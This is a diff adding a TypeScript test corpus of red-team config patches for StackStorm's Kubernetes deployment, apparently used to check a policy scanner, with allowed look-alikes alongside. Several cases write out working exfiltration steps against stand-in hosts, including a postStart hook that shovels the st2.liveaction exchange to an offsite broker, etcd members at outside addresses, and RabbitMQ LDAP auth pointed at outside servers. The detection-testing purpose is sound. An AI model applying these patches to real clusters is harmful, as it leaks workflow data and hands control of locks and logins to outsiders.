@@ -1,0 +1,95 @@
+/**
+ * The thirteenth red team's store exfiltration (test/attackers/red13), the
+ * stores piece, rewritten as patches over prod with variants and safe
+ * look-alikes:
+ *
+ * - a Service st2 connects through (its coordination store, its API)
+ *   turned into an ExternalName to an outside name: cluster DNS answers with
+ *   a CNAME and st2 takes its locks there (ST2-EXP-017); an ExternalName
+ *   nothing of st2 uses stays allowed;
+ * - etcd's membership decided outside: an extra `--initial-cluster` member
+ *   at an outside address, `--discovery` at a public discovery service,
+ *   `--discovery-srv` under an outside domain; RabbitMQ shovels and
+ *   federation upstreams at outside brokers, from a postStart hook or a
+ *   static shovel in advanced.config (ST2-SEC-039); the same members under
+ *   their cluster FQDNs and a shovel to another vhost of the same broker stay
+ *   allowed;
+ * - RabbitMQ's LDAP backend at an outside server, in plain or with LDAPS to
+ *   an unlisted host, in rabbitmq.conf or advanced.config (ST2-OPS-013, as
+ *   the HTTP backend); an in-cluster directory over StartTLS stays allowed.
+ */
+import type { Patch, RedTeamCase } from './corpus.js';
+import { bodyCase, type CaseBody } from './case-body.js';
+
+type Json = Record<string, unknown>;
+
+const SPEC = '/spec/template/spec';
+const STS = (name: string): Json => ({ group: 'apps', kind: 'StatefulSet', name });
+const patch = (target: Json, ...ops: Json[]): Patch => ({ target, ops });
+const service = (name: string, externalName: string): CaseBody => ({ patches: [patch({ kind: 'Service', name }, { op: 'replace', path: '/spec', value: { type: 'ExternalName', externalName } })] });
+
+/** etcd's --initial-cluster flag (the 8th word of its command) replaced. */
+const etcdFlag = (flag: string): CaseBody => ({ patches: [patch(STS('etcd'), { op: 'replace', path: `${SPEC}/containers/0/command/7`, value: flag })] });
+const MEMBERS = 'etcd-0=http://etcd-0.etcd-headless:2380,etcd-1=http://etcd-1.etcd-headless:2380,etcd-2=http://etcd-2.etcd-headless:2380';
+
+/** A postStart hook on the RabbitMQ node running this script. */
+const rabbitHook = (script: string): CaseBody => ({ patches: [patch(STS('rabbitmq'), { op: 'add', path: `${SPEC}/containers/0/lifecycle`, value: { postStart: { exec: { command: ['sh', '-c', script] } } } })] });
+
+/** rabbitmq.conf: the base's peer discovery and definitions, plus these lines; the LDAP plugin enabled. */
+const RABBIT_BASE = [
+  'cluster_formation.peer_discovery_backend = rabbit_peer_discovery_classic_config',
+  'cluster_formation.classic_config.nodes.1 = rabbit@rabbitmq-0.rabbitmq-discovery',
+  'cluster_formation.classic_config.nodes.2 = rabbit@rabbitmq-1.rabbitmq-discovery',
+  'cluster_formation.classic_config.nodes.3 = rabbit@rabbitmq-2.rabbitmq-discovery',
+  'queue_master_locator = min-masters',
+  'loopback_users.guest = false',
+  'cluster_partition_handling = pause_minority',
+  'load_definitions = /etc/rabbitmq/definitions.json',
+];
+const rabbitConf = (lines: string[], extra: Record<string, string> = {}): CaseBody => ({
+  patches: [
+    patch(
+      { kind: 'ConfigMap', name: 'rabbitmq-config' },
+      { op: 'replace', path: '/data/enabled_plugins', value: '[rabbitmq_management,rabbitmq_auth_backend_ldap].\n' },
+      { op: 'replace', path: '/data/rabbitmq.conf', value: [...RABBIT_BASE, ...lines, ''].join('\n') },
+      ...Object.entries(extra).map(([key, value]) => ({ op: 'add', path: `/data/${key}`, value })),
+    ),
+  ],
+});
+
+export function fresh13StoresCorpus(): RedTeamCase[] {
+  const cases: RedTeamCase[] = [];
+  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: CaseBody): void => {
+    cases.push(bodyCase(id, cls, rule, body));
+  };
+
+  // A Service st2 connects through, answered by a CNAME to an outside name.
+  add('f13s-extname-etcd', 'exposure', 'ST2-EXP-017', service('etcd', 'locks.coord-hosting.example.net'));
+  add('f13s-extname-st2api', 'exposure', 'ST2-EXP-017', service('st2api', 'api.st2-mirror.example.org'));
+  // An ExternalName nothing of st2 connects through (a mail relay for packs).
+  add('f13s-extname-unused-ok', 'exposure', undefined, { resources: [{ apiVersion: 'v1', kind: 'Service', metadata: { name: 'smtp-relay' }, spec: { type: 'ExternalName', externalName: 'smtp.mail-provider.example.com' } }] });
+
+  // etcd members and discovery outside the cluster.
+  add('f13s-etcd-member-ip', 'exposure', 'ST2-SEC-039', etcdFlag(`--initial-cluster=${MEMBERS},etcd-3=http://198.51.100.44:2380`));
+  add('f13s-etcd-member-name', 'exposure', 'ST2-SEC-039', etcdFlag(`--initial-cluster=${MEMBERS},etcd-dr=https://etcd-dr.backup.example.org:2380`));
+  add('f13s-etcd-discovery-public', 'exposure', 'ST2-SEC-039', etcdFlag('--discovery=https://discovery.etcd.io/3e86b59982e49066c5d813af1c2e2579'));
+  add('f13s-etcd-discovery-srv', 'exposure', 'ST2-SEC-039', etcdFlag('--discovery-srv=peers.example.org'));
+  // The same three members under their cluster FQDNs.
+  add('f13s-etcd-members-fqdn-ok', 'exposure', undefined, etcdFlag('--initial-cluster=etcd-0=http://etcd-0.etcd-headless.st2-prod.svc.cluster.local:2380,etcd-1=http://etcd-1.etcd-headless.st2-prod.svc.cluster.local:2380,etcd-2=http://etcd-2.etcd-headless.st2-prod.svc.cluster.local:2380'));
+
+  // Shovels and federation at outside brokers.
+  add('f13s-shovel-hook', 'exposure', 'ST2-SEC-039', rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter shovel copy-out '{"src-uri":"amqp://","src-exchange":"st2.liveaction","src-exchange-key":"#","dest-uri":"amqp://copy:copy@mq.offsite.example.net:5672"}'`));
+  add('f13s-federation-hook', 'exposure', 'ST2-SEC-039', rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_federation; rabbitmqctl set_parameter federation-upstream feed '{"uri":"amqps://feed.partner.example.com"}'; rabbitmqctl set_policy --apply-to exchanges feed "^st2\\\\." '{"federation-upstream-set":"all"}'`));
+  add('f13s-shovel-static', 'exposure', 'ST2-SEC-039', rabbitConf([], { 'advanced.config': '[{rabbitmq_shovel, [{shovels, [{archive, [{source, [{protocol, amqp091}, {uris, ["amqp://"]}, {queue, <<"st2.actionrunner.work">>}]}, {destination, [{protocol, amqp091}, {uris, ["amqp://203.0.113.71"]}]}]}]}]}].\n' }));
+  // A shovel between two vhosts of the same broker (amqp:// with no host is the local node).
+  add('f13s-shovel-local-ok', 'exposure', undefined, rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter -p archive shovel keep '{"src-uri":"amqp:///archive","src-queue":"audit.in","dest-uri":"amqp:///archive","dest-queue":"audit.kept"}'`));
+
+  // RabbitMQ's logins checked against an outside directory.
+  add('f13s-ldap-plain', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = directory.corp-hosted.example.com', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));
+  add('f13s-ldap-tls-unlisted', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1.authn = ldap', 'auth_backends.1.authz = internal', 'auth_ldap.servers.1 = 198.51.100.80', 'auth_ldap.use_ssl = true', 'auth_ldap.port = 636']));
+  add('f13s-ldap-advanced', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap'], { 'advanced.config': '[{rabbitmq_auth_backend_ldap, [{servers, ["ldap.example.org"]}, {use_ssl, false}, {user_dn_pattern, "cn=${username},dc=example"}]}].\n' }));
+  // An in-cluster directory over StartTLS, internal users as fallback.
+  add('f13s-ldap-incluster-ok', 'exposure', undefined, rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = openldap.st2-prod.svc.cluster.local', 'auth_ldap.use_starttls = true', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));
+
+  return cases;
+}
